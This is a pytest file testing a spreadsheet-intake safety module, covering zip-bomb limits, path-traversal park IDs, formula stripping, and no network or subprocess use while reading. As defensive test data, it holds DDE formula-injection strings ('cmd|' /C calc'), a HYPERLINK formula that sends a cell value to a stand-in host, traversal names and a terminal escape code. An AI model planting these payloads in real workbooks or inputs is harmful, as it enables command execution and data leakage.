"""A workbook that wants to do more than state numbers is refused, and nothing of it reaches another file."""

import contextlib
import errno
import io
import json
import os
import re
import struct
import subprocess
import sys
import tempfile
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from workbook_maker import BAD, ROOT, Filled, Formula, cell_of, examined, repacked, told

from pathway_models.cli.data_commands import check_command
from pathway_models.cli.main import main
from pathway_models.console.screen import fault_lines, width_of
from pathway_models.core.errors import Fault, InputError
from pathway_models.intake.examination import examine_workbook
from pathway_models.intake.workbook import safety as workbook_safety
from pathway_models.intake.workbook.book import write_annotated
from pathway_models.intake.workbook.safety import safe_bytes

HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
SHEET = "xl/worksheets/sheet2.xml"


def refusal(path):
    with pytest.raises(InputError) as refused:
        safe_bytes(path)
    return refused.value.faults[0]


def with_sheet(folder, rows):
    """A workbook one sheet of which has these raw rows."""
    part = HEAD + b"<sheetData>" + rows + b"</sheetData></worksheet>"
    filled = Filled(parts=lambda parts: {**parts, SHEET: part})
    return filled.write(folder / "park.xlsx")


@pytest.mark.slow
def test_200_mb_of_empty_rows_are_refused_without_being_read(tmp_path):
    path = with_sheet(tmp_path, b'<row r="1" spans="1:9"/>' * (200 * 2**20 // 24))
    assert path.stat().st_size < 2**20
    fault = refusal(path)
    assert fault.code == "unpacked_large"
    assert "empty rows, or a zip bomb" in fault.remedy


def test_a_size_that_lies_does_not_help_a_bomb(tmp_path):
    """The directory says one byte; what counts is what comes out."""
    content = with_sheet(tmp_path, b" " * (100 * 2**20)).read_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo(SHEET).file_size
    (tmp_path / "liar.xlsx").write_bytes(content.replace(struct.pack("<I", size), struct.pack("<I", 1)))
    assert refusal(tmp_path / "liar.xlsx").code in ("unpacked_large", "zip_damaged")


def test_too_many_formatted_cells_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_safety, "MOST_CELLS", 5000)
    assert refusal(with_sheet(tmp_path, b'<row r="1"><c r="A1" s="1"/></row>' * 5000)).code == "cells_many"


def test_a_large_file_is_refused_by_its_size(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_safety, "LARGEST_FILE", 2**10)
    assert refusal(Filled().write(tmp_path / "park.xlsx")).code == "file_large"


def test_a_file_that_is_not_there_is_said_to_be_missing(tmp_path):
    assert refusal(tmp_path / "nowhere.xlsx").code == "no_file"
    assert refusal(tmp_path).code == "no_file"


@pytest.mark.parametrize(
    "name", ["part_outside", "entity_expansion", "entity_of_a_file", "macro_part", "external_link"]
)
def test_nothing_of_a_refused_file_is_written_anywhere(tmp_path, name):
    (tmp_path / "in").mkdir()
    path = tmp_path / "in" / "park.xlsx"
    path.write_bytes((BAD / f"{name}.xlsx").read_bytes())
    out = str(tmp_path / "in" / "copy.xlsx")
    answer = CliRunner().invoke(check_command, [str(path), "--annotate", out])
    assert answer.exit_code == 1
    assert [found.name for found in tmp_path.rglob("*")] == ["in", "park.xlsx"]


@pytest.mark.parametrize(
    "park_id", ["../outside", "..", "a/b", "a\\b", "/etc", "C:park", "nul", "A", "park id", "a" * 61, "a\n"]
)
def test_a_park_id_that_is_no_plain_folder_name_is_refused(tmp_path, park_id):
    filled = Filled()
    filled.park["park_id"] = park_id
    found = told(examined(filled, tmp_path), "error")
    assert found == [("园区!C5", "park_id")] or park_id == "a\n"


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", " =1"])
def test_a_name_that_would_run_as_a_formula_is_refused(tmp_path, name):
    filled = Filled()
    filled.park["name_zh"] = name
    assert [code for _, code in told(examined(filled, tmp_path), "error")] == ["formula_text"]


def hostile():
    """A readable workbook full of things that compute or reach outside."""
    filled = Filled()
    filled.put(2019, "bituminous", Formula('=HYPERLINK("http://x.invalid/?"&C13,"10500")', 10500))
    filled.put(2019, "natural_gas", "=1+1")
    filled.put(2019, "heat", "约五万")
    filled.lines[2019]["so2"]["note"] = "@SUM(1+9)*cmd|' /C calc'!A0"

    def touch(book):
        sheet = book.get_worksheet_by_name("2020")
        book.define_name("Evil", "=SUM('2020'!$C$1:$C$9)")
        sheet.write_url("K1", "http://x.invalid/", string="x")
        sheet.conditional_format("K2:K9", {"type": "formula", "criteria": "=C13>1", "format": book.add_format()})
        sheet.data_validation("K3", {"validate": "custom", "value": '=INDIRECT("C13")>0'})
        sheet.data_validation("K4", {"validate": "list", "source": ["A", "B"]})
        sheet.print_area("A1:C9")
        sheet.repeat_rows(0, 3)
        book.set_custom_property("link", "=1+1")
        sheet.autofilter("P1:Q9")
        sheet.add_table("L1:M3", {"columns": [{"header": "a"}, {"header": "b", "formula": "=C13"}]})

    filled.touch = touch
    return filled


def test_a_marked_copy_holds_no_formula_link_or_rule_of_the_input(tmp_path):
    path = hostile().write(tmp_path / "park.xlsx")
    examination = examine_workbook(path)
    copy = write_annotated(path, examination.faults, tmp_path / "copy.xlsx")
    with zipfile.ZipFile(copy) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    text = "".join(parts.values())
    assert not re.search(r"<f[ >]|<definedName |<hyperlink|conditionalFormatting|INDIRECT|<calculatedColumn", text)
    assert not [name for name in parts if "externalLink" in name or "tables/" in name]
    assert '"A,B"' in parts["xl/worksheets/sheet4.xml"].replace("&quot;", '"')
    book = openpyxl.load_workbook(copy)
    kept = book["2019"][cell_of("bituminous")]
    assert (kept.data_type, kept.quotePrefix, kept.value[:10]) == ("s", True, "=HYPERLINK")
    assert book["2019"][cell_of("natural_gas")].data_type == "s"


def test_a_marked_copy_shows_each_fault_in_its_cell(tmp_path):
    path = hostile().write(tmp_path / "park.xlsx")
    copy = write_annotated(path, examine_workbook(path).faults, tmp_path / "copy.xlsx")
    book = openpyxl.load_workbook(copy)
    wrong, good = book["2019"][cell_of("heat")], book["2019"][cell_of("diesel_oil")]
    assert wrong.fill.fgColor.rgb == "00FFC7CE"
    assert wrong.comment.text.startswith("ERROR: expected a number; write plain digits")
    assert good.comment is None
    assert book["2019"][cell_of("bituminous")].fill.fgColor.rgb == "00FFEB9C"
    listed = {row[1].value for row in book["check"].iter_rows(min_row=2)}
    assert listed == {fault.place for fault in examine_workbook(path).faults}


@pytest.mark.parametrize("name", ["nowhere", "x" * 300])
def test_a_file_that_cannot_be_written_is_told_without_a_traceback(tmp_path, name):
    """A folder in the way, and a name no disk takes, stand for a folder one may not write to."""
    park = Filled().write(tmp_path / "park.xlsx")

    def target(suffix):
        path = tmp_path / f"{name}{suffix}"
        if name == "nowhere":
            path.with_name(f"{path.name}.partial").mkdir()  # where a file is written before it takes its place
        return path

    copy = ["check", str(park), "--annotate", str(target(".xlsx"))]
    for words in (copy, ["check", str(park), "--ledger", str(target(".csv"))], ["template", copy[-1]]):
        done = CliRunner().invoke(main, words)
        assert done.exit_code == 1, done.output
        assert isinstance(done.exception, SystemExit)
        assert "a file that can be written" in done.output


@pytest.fixture
def full_disk(tmp_path):
    """Make a folder on a disk that is full."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(disk)], check=False).returncode:
        pytest.skip("this machine lets nobody mount")
    try:
        with (disk / "filling").open("wb", buffering=0) as file, contextlib.suppress(OSError):
            while True:
                file.write(b"x" * 512)
        yield disk
    finally:
        subprocess.run(["umount", str(disk)], check=True)


WRITERS = """
import sys
from pathlib import Path
import pandas as pd
from pathway_models.cli.main import main
from pathway_models.exports.iamc import write_iamc
park, target = Path(sys.argv[1]), Path(sys.argv[2])
if sys.argv[3] == "iamc":
    names = ["model", "scenario", "region", "variable", "unit", 2020]
    table = pd.DataFrame([["m", "s", "r", "v", "t", 1]], columns=names)
    write_iamc(table, table, table, target)
else:
    words = {"check": ["check", str(park), "--annotate", str(target)], "template": ["template", str(target)]}
    main(words[sys.argv[3]])
"""


def written_beside(park, target, writer, **environment):
    words = [sys.executable, "-c", WRITERS, str(park), str(target), writer]
    return subprocess.run(words, capture_output=True, text=True, check=False, env=os.environ | environment, timeout=120)


@pytest.mark.slow
@pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0, reason="only root can mount a small disk")
@pytest.mark.parametrize("writer", ["check", "template", "iamc"])
def test_workbooks_are_written_without_the_temporary_folder_and_leave_no_trace_on_a_full_disk(
    tmp_path, full_disk, writer
):
    park = Filled().write(tmp_path / "park.xlsx")
    done = written_beside(park, tmp_path / "new.xlsx", writer, TMPDIR=str(full_disk), TEMP=str(full_disk))
    assert done.returncode == 0, done.stderr
    assert "ignored" not in done.stderr
    assert zipfile.is_zipfile(tmp_path / "new.xlsx")
    done = written_beside(park, full_disk / "new.xlsx", writer)
    assert done.returncode == 1
    assert "No space left" in done.stderr
    assert "ignored" not in done.stderr
    if writer != "iamc":  # a command of its own tells it in a line; a function raises
        assert "Traceback" not in done.stderr
    assert not (full_disk / "new.xlsx").exists()


def test_the_marked_copy_goes_by_no_file_of_the_temporary_folder(tmp_path, monkeypatch):
    def full(*_, **__):
        raise OSError(errno.ENOSPC, "No space left on device")

    path = Filled().write(tmp_path / "park.xlsx")
    for name in ("NamedTemporaryFile", "TemporaryFile", "mkstemp", "SpooledTemporaryFile"):
        monkeypatch.setattr(tempfile, name, full)
    monkeypatch.setattr(openpyxl.worksheet._writer, "create_temporary_file", full)
    copy = write_annotated(path, examine_workbook(path).faults, tmp_path / "copy.xlsx")
    assert told(examine_workbook(copy), "error") == []


def test_a_marked_copy_can_be_mended_checked_and_marked_again(tmp_path):
    filled = Filled()
    place = filled.put(2019, "heat", "约五万")
    path = filled.write(tmp_path / "park.xlsx")
    copy = write_annotated(path, examine_workbook(path).faults, tmp_path / "copy.xlsx")
    assert (place, "number") in told(examine_workbook(copy), "error")
    book = openpyxl.load_workbook(copy)
    book["2019"][cell_of("heat")] = 52500
    book.save(copy)
    assert told(examine_workbook(copy), "error") == []
    write_annotated(path, [], copy)


def test_the_terminal_names_the_file_where_it_is_not_the_one_that_was_checked():
    faults = [
        Fault(file, "file", "", "a file to read", "check the name", code="no_file") for file in ("p.csv", "p.yml")
    ]
    own, other = list(fault_lines(faults, 80, table="p.csv"))[1:]
    assert own.split()[:3] == ["error", "file", "expected"]
    assert other.split()[:3] == ["error", "p.yml", "file"]


def test_the_terminal_shows_no_control_sign_of_the_input():
    fault = Fault("p.xlsx", "2019!C6", "\x1b[2J清屏", "a number", "type it", code="number")
    lines = list(fault_lines([fault], 80))
    assert "\x1b" not in "".join(lines)
    assert all(width_of(line) <= 80 for line in lines)


@pytest.mark.slow
def test_reading_a_workbook_opens_no_network_and_starts_no_program(tmp_path):
    """Audited in a fresh interpreter: the reading itself touches the workbook and the shipped data only."""
    path = hostile().write(tmp_path / "park.xlsx")
    code = """
import json, sys
from pathlib import Path
from pathway_models.intake.examination import examine_workbook
seen = []
def hook(event, args):
    if event.split(".")[0] in ("socket", "subprocess", "os") and event not in ("os.listdir", "os.scandir"):
        seen.append(event)
    if event == "open" and isinstance(args[1], str) and set(args[1]) & set("wax+"):
        seen.append(f"open {args[0]}")
sys.addaudithook(hook)
examine_workbook(Path(sys.argv[1]))
print(json.dumps(seen))
"""
    done = subprocess.run(
        [sys.executable, "-B", "-c", code, str(path)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == []


def test_an_unpacked_archive_of_many_parts_is_refused(tmp_path):
    path = Filled().write(tmp_path / "park.xlsx")
    many = {f"docProps/{n}.bin": b"" for n in range(1001)}
    path.write_bytes(repacked(path.read_bytes(), lambda parts: {**parts, **many}))
    assert refusal(path).code == "zip_parts"


def test_a_sheet_named_like_a_formula_never_begins_a_line_of_a_result(tmp_path):
    filled = Filled(touch=lambda book: book.add_worksheet("=1+1").write_number("A1", 1))
    park = examined(filled, tmp_path).park
    assert any("=1+1" in note for note in park.notes)
    assert not any(note.startswith(("=", "+", "-", "@")) for note in park.notes)
